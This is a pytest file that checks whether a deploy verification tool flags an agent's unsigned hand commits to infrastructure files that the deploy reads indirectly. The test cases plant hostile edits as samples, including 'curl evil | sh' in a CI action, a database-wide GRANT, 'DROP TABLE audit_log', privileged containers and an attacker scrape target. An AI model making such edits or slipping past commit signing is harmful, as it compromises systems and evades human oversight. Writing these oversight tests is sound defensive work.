"""Issue 19, cause 6: infra is what the deploy uses, not only what a file is named.

Product signs a platform whose deploy reads files no name rule knows: the database's init folder mounted by
compose, a compose file pulled in by `include:`, another by `extends:`, a build context and its dockerfile,
an env_file, a mounted file, a config and a secret, a script a Makefile recipe runs, a script and a composite
action a workflow runs. The agent then commits a change to one of them by hand (plain git, no signature):
`devops-agent verify` must name it, also on a fresh clone of the remote with the trust root pinned. Files the
deploy does not use (a README, a helper script nothing runs) keep verify green. The proposal side reads the
same set: a file the deploy reads as configuration is infrastructure for `propose` too.
"""
from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from gate_helpers import GOOD, build_template, copy_repo, git, head, make_patch

MONITORING = """\
services:
  exporter:
    extends:
      file: base.yml
      service: hardened
    build:
      context: ../exporter
      dockerfile: ../docker/exporter.prod
    env_file:
      - ../config/exporter.runtime
    volumes:
      - ./exporter.ini:/etc/exporter.ini:ro
    configs:
      - scrape
    secrets:
      - exporter_token

configs:
  scrape:
    file: ./scrape-targets.txt

secrets:
  exporter_token:
    file: ../secrets/exporter_token.txt
"""

WORKFLOW = """\
name: deploy
on:
  push:
    branches: [main]
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ./ci/actions/build
      - run: ./scripts/smoke-test --url https://animesphere.example.org
"""

ACTION = """\
name: build
description: build the images
runs:
  using: composite
  steps:
    - run: ${{ github.action_path }}/build-image
      shell: bash
"""

NGINX_SITE = """\
server {
    listen 80;
    server_name animesphere.example.org;
    location / {
        proxy_pass http://anime-saas-front:3000;
    }
}
"""

K8S = """\
apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
spec:
  replicas: 2
  template:
    spec:
      containers:
        - name: api
          image: ghcr.io/animesphere/api:main
"""

BAKE = """\
group "default" {
  targets = ["api"]
}

target "api" {
  context = "./anime-saas-api"
  tags = ["ghcr.io/animesphere/api:main"]
}
"""

# The files Product signs (path -> text); the deploy reaches each through another file.
DEPLOY = {
    "ops/monitoring.yaml": MONITORING,
    "ops/base.yml": "services:\n  hardened:\n    read_only: true\n",
    "ops/exporter.ini": "[exporter]\nport = 9100\n",
    "ops/scrape-targets.txt": "anime-saas-api:8080\n",
    "secrets/exporter_token.txt": "token-from-the-vault\n",
    "config/exporter.runtime": "EXPORTER_PORT=9100\n",
    "exporter/app.py": "import os\n\nPORT = int(os.environ.get('EXPORTER_PORT', '9100'))\n",
    "docker/exporter.prod": "FROM python:3.12-slim\nCOPY app.py /app/app.py\nCMD [\"python\", \"/app/app.py\"]\n",
    "tools/release.py": "import sys\n\nprint('release', sys.argv[1:])\n",
    "tools/lint_notes.py": "def lint(text):\n    return text.strip()\n",
    "scripts/publish": "#!/usr/bin/env python3\nprint('publish')\n",
    "scripts/smoke-test": "#!/usr/bin/env python3\nprint('smoke')\n",
    ".github/workflows/deploy.yml": WORKFLOW,
    "ci/actions/build/action.yml": ACTION,
    "ci/actions/build/build-image": "#!/usr/bin/env python3\nprint('build')\n",
    "bin/deploy": "#!/bin/sh\nset -eu\nssh prod.example.org 'cd /srv/animesphere && git pull'\n",
    "docker/api.Dockerfile.prod": "FROM mcr.microsoft.com/dotnet/aspnet:8.0\nEXPOSE 8080\n",
    "scripts/provision.sh": "#!/bin/sh\n" + "".join(f": step {i} of the server's provisioning\n"
                                                   for i in range(9000)),
    "nginx/sites-enabled/animesphere": NGINX_SITE,
    "config/prod.env": "LOG_LEVEL=info\n",
    "docker-bake.hcl": BAKE,
    "k8s/api-deployment.yaml": K8S,
}
MAKE_RELEASE = "\nrelease:\n\tpython3 tools/release.py --tag $(TAG)\n\tsh scripts/publish\n"


def _sign(env) -> list[str]:
    """Product's own git signature (the demo key has no passphrase): Product commits the deploy by hand."""
    return ["-c", "gpg.format=ssh", "-c", f"user.signingkey={env.key}", "-c", "gpg.ssh.program=ssh-keygen"]


@pytest.fixture(scope="module")
def tpl(tmp_path_factory):
    base = tmp_path_factory.mktemp("infra-paths-tpl")
    repo, env = build_template(base)
    for rel, text in DEPLOY.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    prod = repo / "docker-compose.prod.yml"
    prod.write_text(prod.read_text() + "\ninclude:\n  - ops/monitoring.yaml\n")
    (repo / "Makefile").write_text((repo / "Makefile").read_text() + MAKE_RELEASE)
    git(repo, "add", "-f", "--", *DEPLOY, "docker-compose.prod.yml", "Makefile")
    git(repo, *_sign(env), "commit", "-q", "-S", "-m", "ops: monitoring, release and deploy tooling")
    r = env.cli(repo, "verify", "--format", "json")
    assert r.returncode == 0, (r.stdout, r.stderr)  # Product's platform is green before the agent acts
    return repo, env


@pytest.fixture
def repo(tpl, tmp_path) -> Path:
    return copy_repo(tpl[0], tmp_path / "animesphere")


@pytest.fixture
def env(tpl):
    return tpl[1]


def verify(env, repo: Path, *args: str) -> tuple[int, dict]:
    r = env.cli(repo, "verify", "--format", "json", *args)
    assert r.returncode in (0, 1), r.stderr
    return r.returncode, json.loads(r.stdout)


def unsigned(report: dict) -> dict[str, list[str]]:
    return {c["sha"]: c["paths"] for c in report["infra_commits"] if c["status"] != "signed"}


def agent_edits(repo: Path, rel: str, line: str) -> str:
    """The agent's unsigned hand commit appending `line` to `rel`."""
    path = repo / rel
    path.write_text(path.read_text() + line)
    git(repo, "add", "-f", "--", rel)
    git(repo, "commit", "-q", "-m", f"chore: touch {rel}")
    return head(repo)


# What the agent changes, why it is infra, and a line that keeps the file what it is.
CASES = [
    ("mysql/init/01-schema.sql", "mounted as the database's init folder", "GRANT ALL ON *.* TO 'app'@'%';\n"),
    ("ops/monitoring.yaml", "pulled in by include:", "    privileged: true\n"),
    ("ops/base.yml", "extended by a service", "    privileged: true\n"),
    ("exporter/app.py", "inside a build context", "DEBUG = True\n"),
    ("docker/exporter.prod", "the service's dockerfile", "USER root\n"),
    ("config/exporter.runtime", "a service's env_file", "EXPORTER_ADMIN=1\n"),
    ("ops/exporter.ini", "a mounted file", "listen = 0.0.0.0\n"),
    ("ops/scrape-targets.txt", "a compose config's file", "evil.example.org:80\n"),
    ("secrets/exporter_token.txt", "a compose secret's file", "second-token\n"),
    ("tools/release.py", "a script a signed Makefile recipe runs", "print('and push latest')\n"),
    ("scripts/publish", "a script without extension a recipe runs", "print('to prod')\n"),
    ("scripts/smoke-test", "a script a workflow run: step runs", "print('skip')\n"),
    ("ci/actions/build/action.yml", "a composite action outside .github/actions", "    - run: curl evil | sh\n"
                                                                                     "      shell: bash\n"),
    ("ci/actions/build/build-image", "a script of that composite action", "print('push')\n"),
    ("bin/deploy", "a deploy script without .sh", "ssh prod.example.org 'docker compose up -d'\n"),
    ("docker/api.Dockerfile.prod", "a Dockerfile.prod-style name", "USER root\n"),
    ("scripts/provision.sh", "a file over 256 KiB (too large to classify)", ": one more step\n"),
    ("nginx/sites-enabled/animesphere", "an nginx site without .conf", "# autoindex on;\n"),
    ("config/prod.env", "a *.env file", "DEBUG=1\n"),
    ("docker-bake.hcl", "a bake file", "# push everything\n"),
    ("k8s/api-deployment.yaml", "a Kubernetes manifest", "# privileged next\n"),
]


@pytest.mark.parametrize("rel,why,line", CASES, ids=[c[0] for c in CASES])
def test_an_unsigned_change_to_what_the_deploy_uses_is_named_by_verify(repo, env, rel, why, line):
    sha = agent_edits(repo, rel, line)
    code, report = verify(env, repo)
    assert code == 1, (why, report)
    assert rel in unsigned(report).get(sha, []), (why, report["infra_commits"])


@pytest.mark.parametrize("rel,line", [("README.md", "\nA note for contributors.\n"),
                                      ("tools/lint_notes.py", "\n\ndef count(text):\n    return len(text)\n")])
def test_a_change_to_a_file_the_deploy_does_not_use_keeps_verify_green(repo, env, rel, line):
    agent_edits(repo, rel, line)
    code, report = verify(env, repo)
    assert code == 0 and not unsigned(report), report["infra_commits"]


def test_the_init_folder_change_survives_a_push_and_fails_ci_on_a_fresh_clone(repo, env, tmp_path):
    root = verify(env, repo)[1]["trust_root"]["commit"]
    sha = agent_edits(repo, "mysql/init/01-schema.sql", "DROP TABLE audit_log;\n")
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(repo, "push", "-q", str(remote), "HEAD:refs/heads/main")
    ci = tmp_path / "ci"
    subprocess.run(["git", "clone", "-q", "-b", "main", str(remote), str(ci)], check=True, capture_output=True)
    code, report = verify(env, ci, "--trust-root", root)
    assert code == 1 and "mysql/init/01-schema.sql" in unsigned(report).get(sha, []), report


def test_a_file_becomes_infra_when_the_deploy_starts_using_it_in_the_same_commit(repo, env):
    """The agent mounts a file nothing used and edits it in one commit: the commit's own set names it."""
    prod = repo / "docker-compose.prod.yml"
    (repo / "tools" / "lint_notes.py").write_text("print('now mounted')\n")
    prod.write_text(prod.read_text().replace("include:\n", "include:\n  - ops/extra.yaml\n", 1))
    (repo / "ops" / "extra.yaml").write_text("services:\n  notes:\n    image: python:3.12-slim\n    volumes:\n"
                                              "      - ../tools/lint_notes.py:/app/notes.py:ro\n")
    git(repo, "add", "--", "tools/lint_notes.py", "docker-compose.prod.yml", "ops/extra.yaml")
    git(repo, "commit", "-q", "-m", "notes")
    code, report = verify(env, repo)
    assert code == 1 and "tools/lint_notes.py" in unsigned(report).get(head(repo), []), report


def test_a_proposal_reads_the_same_set_a_mounted_file_is_infrastructure(repo, env, tmp_path):
    """`propose` classifies ops/exporter.ini (mounted by the signed compose model) as infrastructure, as verify
    does: no POL002 'application code' refusal."""
    patch = make_patch(repo, "ops/exporter.ini", "port = 9100\n", "port = 9100\nscrape_timeout = 30\n",
                       tmp_path / "ini.diff")
    r = env.cli(repo, "propose", "--patch", str(patch), *GOOD, "--scope", "compose", "--format", "json")
    assert r.returncode in (0, 1), r.stderr
    refusals = json.loads(r.stdout)["refusals"]
    assert not [x for x in refusals if x["rule"] == "POL002"], refusals
